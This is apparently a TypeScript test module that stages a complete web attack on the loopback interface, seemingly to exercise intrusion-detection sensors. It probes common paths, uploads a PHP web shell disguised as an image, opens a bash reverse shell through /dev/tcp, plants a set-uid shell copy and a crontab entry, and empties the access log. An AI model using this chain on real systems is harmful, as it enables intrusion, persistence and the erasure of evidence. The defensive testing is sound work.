// An attack on a web site, as it is done: looking around, a web shell through the upload script, commands through it, a reverse
// shell, and from there a set-uid copy of a shell, a job of cron, and an emptied log. Harmless: on the loopback, as the
// server's user, and everything goes with the test.

import assert from 'node:assert/strict'
import { execFileSync, spawnSync } from 'node:child_process'
import { rmSync } from 'node:fs'
import { join } from 'node:path'
import type { TestContext } from 'node:test'
import { setTimeout as delay } from 'node:timers/promises'

import { listenForShell } from './reverse-shell.ts'
import { webShell } from './site-pages.ts'
import { upload, visit } from './web-client.ts'
import { type WebSite, webUser } from './web-site.ts'

export const attacker = '127.0.0.66'
/** Logs have whole seconds: what follows each other faster has no order there. */
const breathMs = 1100
const scanner = { 'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)' }
const browser = { 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' }
const probes = [
  '/.git/config',
  '/wp-login.php',
  '/phpmyadmin/',
  '/cgi-bin/test.cgi',
  '/?page=../../../../etc/passwd',
]

/** What it did: what the story has to tell. */
export interface AttackTrace {
  /** URL path of the web shell. */
  readonly shellPath: string
  /** The same in the file system. */
  readonly shellFile: string
  readonly reversePort: number
  /** Process id of the interactive shell. */
  readonly bashPid: number
  readonly setuidFile: string
  readonly crontab: string
  readonly log: string
}

export interface AttackOptions {
  /** Called when the web shell lies there. */
  readonly onUpload?: (path: string) => Promise<void>
  /** Called when the first commands were typed into the reverse shell. */
  readonly onShell?: (bashPid: number) => Promise<void>
}

export async function attackWebSite(
  t: TestContext,
  site: WebSite,
  options: AttackOptions = {},
): Promise<AttackTrace> {
  const where = { from: attacker, port: site.port, headers: browser }
  for (const path of probes) await visit({ ...where, headers: scanner, path })
  const name = 'thumb.php'
  const { text: answer } = await upload(where, { name, type: 'image/jpeg', content: webShell })
  assert.match(answer, /^saved as/)
  const shellPath = `/uploads/${name}`
  await options.onUpload?.(join(site.uploads, name))
  await delay(breathMs)
  for (const [command, output] of [
    ['id', /uid=\d+\(www-data\)/],
    ['uname -a', /^Linux /],
  ] as const) {
    const { text } = await visit({ ...where, path: `${shellPath}?cmd=${encodeURIComponent(command)}` })
    assert.match(text, output)
    await delay(breathMs)
  }
  const shell = await listenForShell(t, attacker)
  const call = `bash -c 'bash -i >& /dev/tcp/${attacker}/${shell.port} 0>&1'`
  const reverse = visit({ ...where, path: `${shellPath}?cmd=${encodeURIComponent(call)}` })
  // It is answered when the shell ends.
  reverse.catch(() => undefined)
  await shell.called
  const hidden = `/var/tmp/.font-unix-${shell.port}`
  const setuidFile = join(hidden, 'fontd')
  cleanUpAfter(t, hidden)
  assert.match(await shell.type('id'), /uid=\d+\(www-data\)/)
  assert.match(await shell.type('whoami'), /www-data/)
  const bashPid = Number(/^(\d+)\r?$/m.exec(await shell.type('echo $$'))?.[1])
  await options.onShell?.(bashPid)
  for (const command of [
    `mkdir -p ${hidden}`,
    `cp /bin/dash ${setuidFile}`,
    `chmod u+s ${setuidFile}`,
    // In February of a leap year: no cron of this host runs it meanwhile.
    `echo '5 4 29 2 * ${setuidFile} -c true' | crontab -`,
    `: > ${site.accessLog}`,
  ]) {
    await shell.type(command)
    // A person types slower than the sensors look.
    await delay(150)
  }
  await shell.exit()
  await reverse
  return {
    shellPath,
    shellFile: join(site.uploads, name),
    reversePort: shell.port,
    bashPid,
    setuidFile,
    crontab: `/var/spool/cron/crontabs/${webUser}`,
    log: site.accessLog,
  }
}

/** The set-uid file goes, and the account has the crontab that it had. */
function cleanUpAfter(t: TestContext, hidden: string): void {
  const before = spawnSync('crontab', ['-u', webUser, '-l'], { encoding: 'utf8' })
  t.after(() => {
    rmSync(hidden, { recursive: true, force: true })
    if (before.status === 0) execFileSync('crontab', ['-u', webUser, '-'], { input: before.stdout })
    else spawnSync('crontab', ['-u', webUser, '-r'])
  })
}
